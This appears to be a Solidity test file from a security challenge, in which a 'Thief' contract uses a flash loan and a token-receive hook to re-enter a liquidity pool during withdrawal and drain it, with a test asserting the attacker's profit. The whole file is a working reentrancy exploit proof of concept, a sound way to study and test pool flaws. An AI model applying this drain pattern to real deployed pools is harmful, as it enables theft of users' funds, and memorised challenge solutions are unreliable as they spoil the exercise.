// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {FlashLender, Token} from "../broken-lock/src/Imports.sol";
import {Chime} from "../broken-lock/src/Chime.sol";
import {MeanPool} from "../broken-lock/src/MeanPool.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address) external;
}

contract Thief is IFlashBorrower {
    Chime private immutable chime;
    Token private immutable brass;
    MeanPool private immutable pool;
    bool private listening;

    constructor(Chime chime_, Token brass_, MeanPool pool_) {
        (chime, brass, pool) = (chime_, brass_, pool_);
        chime_.approve(address(pool_), type(uint256).max);
        brass_.approve(address(pool_), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(brass), amount, "");
        brass.transfer(msg.sender, brass.balanceOf(address(this)));
        chime.transfer(msg.sender, chime.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        uint256 shares = pool.addLiquidity([0, amount], 0);
        listening = true;
        pool.removeLiquidity(shares, [uint256(0), 0]);
        pool.removeLiquidity(pool.balanceOf(address(this)), [uint256(0), 0]);
        pool.trade(0, chime.balanceOf(address(this)), 0);
        brass.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// The first payment comes while the shares that are paid out still exist and the brass still lies there.
    function tokensReceived(address, address, address, uint256 amount, bytes calldata, bytes calldata) external {
        if (!listening) return;
        listening = false;
        pool.addLiquidity([amount, 0], 0);
    }
}

contract BrokenLockTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant ATTACKER = address(0xBAD);

    Chime chime;
    Token brass;
    MeanPool pool;
    FlashLender lender;

    function setUp() public {
        chime = new Chime();
        brass = new Token("Brass", "BRS");
        pool = new MeanPool(chime, brass);
        lender = new FlashLender(5);
        chime.issue(address(lender), 1_000_000 ether);
        brass.mint(address(lender), 8_000_000 ether);
        _provide(ALICE, 1_000_000 ether);
        _provide(BOB, 500_000 ether);
    }

    function _provide(address who, uint256 chimes) private {
        chime.issue(who, chimes);
        brass.mint(who, 2 * chimes);
        vm.prank(who);
        chime.approve(address(pool), 1e60);
        vm.prank(who);
        brass.approve(address(pool), 1e60);
        vm.prank(who);
        pool.addLiquidity([chimes, 2 * chimes], 0);
    }

    function test_attack_pays() public {
        Thief thief = new Thief(chime, brass, pool);
        vm.prank(ATTACKER);
        thief.attack(lender, 8_000_000 ether);
        assert(brass.balanceOf(ATTACKER) > 950_000 ether);
        assert(brass.balanceOf(address(lender)) == 8_004_000 ether);
    }
}
